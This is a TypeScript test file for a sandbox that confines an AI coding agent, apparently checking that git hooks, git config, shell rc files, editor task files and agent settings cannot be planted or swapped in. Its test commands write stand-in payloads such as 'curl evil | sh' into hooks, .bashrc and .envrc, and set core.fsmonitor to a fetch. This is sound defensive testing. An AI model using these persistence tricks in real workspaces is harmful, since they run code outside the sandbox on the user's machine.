import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { workspaceStateDir } from "./prepare";
import { withPrivateTmp } from "./private-tmp";
import { runProcess } from "./run-process";
import { initSandbox } from "./sandbox-runtime";
import { runStarted, type StartMode } from "./test-support";
import { PROTECTED_NAMES } from "./workspace-guard";

/**
 * Row 38: the workspace's protections leave no trace. Nothing is placed where nothing was, so
 * `ls`, `git add -A` and a tool walking the tree see the workspace as it is on disk; what would
 * run code outside the sandbox later cannot be changed, and whatever a command creates or swaps
 * in anyway is moved to quarantine and reported.
 */
const root = mkdtempSync(path.join(os.tmpdir(), "ratchet-guard-"));
const dataDir = path.join(root, "data");
let workspace = "";
let n = 0;

const GIT = "git -c user.name=Agent -c user.email=agent@example.invalid";

function runIn(mode: StartMode, command: string) {
  return runStarted(mode, {
    command,
    cwd: workspace,
    privateTmp: true,
    timeoutMs: 30_000,
    modelCapBytes: 256 * 1024,
    streamCapBytes: 4 * 1024 * 1024,
    sandbox: { writable: [workspace], network: "none", workspace },
  });
}

/** git outside the sandbox, as the user would run it, with nothing of the user's own config. */
function userGit(...args: string[]): string {
  return execFileSync("git", args, {
    cwd: workspace,
    encoding: "utf8",
    env: { ...process.env, HOME: root, GIT_CONFIG_NOSYSTEM: "1" },
  });
}

/** The names moved to quarantine (one folder per command), never following what was moved. */
function quarantined(): string[] {
  const dir = path.join(workspaceStateDir(dataDir, workspace), "quarantine");
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((stamp) => readdirSync(path.join(dir, stamp)));
}

beforeAll(async () => {
  const status = await initSandbox({
    locations: {
      dataDir,
      appDir: path.join(root, "app"),
      toolsDir: path.join(root, "tools"),
      skillsDir: path.join(root, "skills"),
      home: path.join(root, "home"),
    },
    network: { mode: "none" },
    disabled: false,
  });
  expect(status.mode, status.reason ?? "").toBe("on");
});

beforeEach(() => {
  workspace = path.join(root, `ws-${++n}`);
  mkdirSync(workspace, { recursive: true });
});

/** Every row twice: in a sandbox started for the command, and in one started before it was known. */
describe.each<StartMode>(["fresh", "prestarted"])("%s sandbox", (mode) => {
  const run = (command: string) => runIn(mode, command);
  describe("row 38: protections that leave no trace", () => {
    it("an empty workspace looks empty: no placeholder files, no character devices", async () => {
      const result = await run(
        'ls -A; echo ---; find . -mindepth 1 | wc -l; find / -xdev -type c -path "$PWD/*" 2>/dev/null | wc -l',
      );
      expect(result.output.trim()).toBe("---\n0\n0");
    });

    it("git init, git add -A and git commit work inside a session; the user's git sees a clean repo", async () => {
      writeFileSync(path.join(workspace, "app.js"), "console.log(1)\n");
      const result = await run(
        `${GIT} init -q -b main && ${GIT} add -A && ${GIT} commit -q -m first && echo 'console.log(2)' > app.js && ${GIT} add -A && ${GIT} commit -q -m second && ${GIT} log --oneline | wc -l`,
      );
      expect(result.exitCode, result.output).toBe(0);
      expect(result.output.trim()).toBe("2");
      expect(result.workspaceGuard).toEqual([]);
      expect(userGit("status", "--porcelain")).toBe("");
      expect(userGit("log", "--format=%s")).toBe("second\nfirst\n");
      // a later command in the same repo: the config and hooks git init wrote are now read-only
      const later = await run(`${GIT} add -A && ${GIT} status --porcelain && echo ok`);
      expect(later.output).toContain("ok");
      expect(later.workspaceGuard).toEqual([]);
    });

    it("a tool walking the tree sees every file and hits no EACCES, also beside existing protected files", async () => {
      userGit("init", "-q");
      mkdirSync(path.join(workspace, ".vscode"));
      writeFileSync(path.join(workspace, ".vscode", "settings.json"), "{}");
      writeFileSync(path.join(workspace, ".bashrc"), "# the user's own\n");
      mkdirSync(path.join(workspace, "src"));
      writeFileSync(path.join(workspace, "src", "a.ts"), "// TODO: x\n");
      const walk = `node -e 'const fs=require("fs");let n=0;for(const e of fs.readdirSync(".",{recursive:true})){fs.statSync(e);if(fs.statSync(e).isFile())fs.readFileSync(e);n++}console.log("walked",n)'`;
      const result = await run(walk);
      expect(result.exitCode, result.output).toBe(0);
      expect(result.output).toMatch(/walked \d+/);
      const kinds = await run("find . -type c -o -type b -o -type p | wc -l");
      expect(kinds.output.trim()).toBe("0");
    });

    it("existing hooks, git config, rc files and editor configs are read-only", async () => {
      userGit("init", "-q");
      writeFileSync(path.join(workspace, ".bashrc"), "# mine\n");
      mkdirSync(path.join(workspace, ".vscode"));
      writeFileSync(path.join(workspace, ".vscode", "tasks.json"), "{}");
      const config = readFileSync(path.join(workspace, ".git", "config"), "utf8");
      const result = await run(
        [
          "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
          "echo '[core] fsmonitor = evil' >> .git/config",
          `${GIT} config core.hooksPath /tmp/hooks`,
          "echo evil >> .bashrc",
          'echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json',
          "echo done",
        ].join("; "),
      );
      expect(result.output).toContain("done");
      expect(existsSync(path.join(workspace, ".git", "hooks", "pre-commit"))).toBe(false);
      expect(readFileSync(path.join(workspace, ".git", "config"), "utf8")).toBe(config);
      expect(readFileSync(path.join(workspace, ".bashrc"), "utf8")).toBe("# mine\n");
      expect(readFileSync(path.join(workspace, ".vscode", "tasks.json"), "utf8")).toBe("{}");
    });

    it.each([
      [".bashrc", "echo 'curl evil | sh' > .bashrc"],
      [".envrc", "echo 'curl evil | sh' > .envrc"],
      [".vscode", "mkdir .vscode && echo '{}' > .vscode/tasks.json"],
      [".idea", "mkdir .idea && echo x > .idea/workspace.xml"],
      [".claude", "mkdir .claude && echo '{\"hooks\":{}}' > .claude/settings.json"],
      [".mcp.json", "echo '{\"mcpServers\":{}}' > .mcp.json"],
      [".ratchet-data-dir", "echo x > .ratchet-data-dir"],
      [".git", "ln -s /tmp .git"],
      [".git", "echo 'gitdir: /tmp/evil' > .git"],
    ])("a new %s is moved to quarantine and reported (%s)", async (name, command) => {
      const result = await run(`${command}; echo done`);
      expect(result.output).toContain("done");
      expect(existsSync(path.join(workspace, name))).toBe(false);
      expect(result.workspaceGuard.join("\n")).toContain(`${name} was created by the command`);
      expect(quarantined()).toContain(name);
    });

    it("a hook or an active git config written into a fresh repo is quarantined; git init's own files stay", async () => {
      const result = await run(
        `${GIT} init -q && echo 'curl evil' > .git/hooks/post-checkout && ${GIT} config core.fsmonitor 'curl evil' && echo done`,
      );
      expect(result.output).toContain("done");
      const report = result.workspaceGuard.join("\n");
      expect(report).toContain(".git/config was created");
      expect(report).toContain(".git/hooks was created");
      expect(existsSync(path.join(workspace, ".git", "config"))).toBe(false);
      expect(existsSync(path.join(workspace, ".git", "hooks"))).toBe(false);
      expect(existsSync(path.join(workspace, ".git", "HEAD"))).toBe(true);
    });

    it("a protected file swapped in by renaming its parent is undone: the earlier version is put back", async () => {
      userGit("init", "-q");
      const config = readFileSync(path.join(workspace, ".git", "config"), "utf8");
      const result = await run(
        "mv .git .git-moved && mkdir -p .git/hooks && printf '[core]\\n\\tfsmonitor = curl evil\\n' > .git/config && echo evil > .git/hooks/pre-commit; echo done",
      );
      expect(result.output).toContain("done");
      expect(readFileSync(path.join(workspace, ".git", "config"), "utf8")).toBe(config);
      expect(existsSync(path.join(workspace, ".git", "hooks", "pre-commit"))).toBe(false);
      expect(result.workspaceGuard.join("\n")).toMatch(
        /\.git\/config was replaced.*the earlier version was put back/,
      );
    });

    it("the list of protected names is what the system prompt promises", () => {
      for (const name of [
        ".git/hooks",
        ".git/config",
        ".bashrc",
        ".vscode",
        ".idea",
        ".claude",
        ".mcp.json",
        ".envrc",
      ])
        expect(PROTECTED_NAMES).toContain(name);
    });
  });
});
